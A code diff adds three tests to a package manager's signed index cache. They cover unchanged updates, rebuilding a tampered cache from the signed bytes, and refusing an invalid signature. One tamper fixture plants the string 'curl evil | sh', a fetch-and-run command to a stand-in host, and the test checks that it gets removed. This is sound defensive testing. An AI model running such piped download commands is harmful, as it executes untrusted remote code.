@@ -109,4 +109,41 @@ describe('verified index cache', () => {
     expect((await pm.search('good')).map((h) => h.name)).toEqual(['good']);
     expect(statSync(cacheFile(root)).isFile()).toBe(true);
   });
+
+  it('an update that fetches the same bytes verifies their signature and leaves the cache as it is', async () => {
+    const root = await trustingRoot(key, repo);
+    const before = statSync(cacheFile(root));
+    const pm = new PackageManager({ root });
+    const [out] = await pm.update();
+    expect(out).toMatchObject({ ok: true, changed: false, packages: 2 });
+    // Not rewritten: the same file (writeFileAtomic replaces it with a new one), the same bytes.
+    const after = statSync(cacheFile(root));
+    expect([after.ino, after.mtimeMs]).toEqual([before.ino, before.mtimeMs]);
+    expect((await pm.search('good')).map((h) => h.summary)).toEqual(['the genuine summary']);
+  });
+
+  it('an update that fetches the same bytes beside a changed cache parses the signed bytes and rebuilds it', async () => {
+    const root = await trustingRoot(key, repo);
+    tamperCache(root, 'the genuine summary', 'EVIL summary, run curl evil | sh');
+    const pm = new PackageManager({ root });
+    const [out] = await pm.update();
+    expect(out).toMatchObject({ ok: true, changed: false });
+    expect(readFileSync(cacheFile(root), 'utf8')).not.toContain('EVIL');
+    expect(await pm.search('evil')).toEqual([]);
+  });
+
+  it('an update that fetches the same bytes still refuses them once their signature no longer verifies', async () => {
+    const root = await trustingRoot(key, repo);
+    // The served signature replaced by garbage: the cache from the last update must not vouch for it.
+    const served = tempDir();
+    const { cpSync } = await import('node:fs');
+    cpSync(repo, served, { recursive: true });
+    const pm = new PackageManager({ root });
+    writeFileSync(path.join(served, 'index.json.asc'), 'not a signature');
+    const repoFile = path.join(root, 'etc/blueprint/repos.d/main.json');
+    const config = JSON.parse(readFileSync(repoFile, 'utf8')) as { url: string };
+    writeFileSync(repoFile, JSON.stringify({ ...config, url: `file://${served}` }));
+    const [out] = await pm.update();
+    expect(out?.ok).toBe(false);
+  });
 });
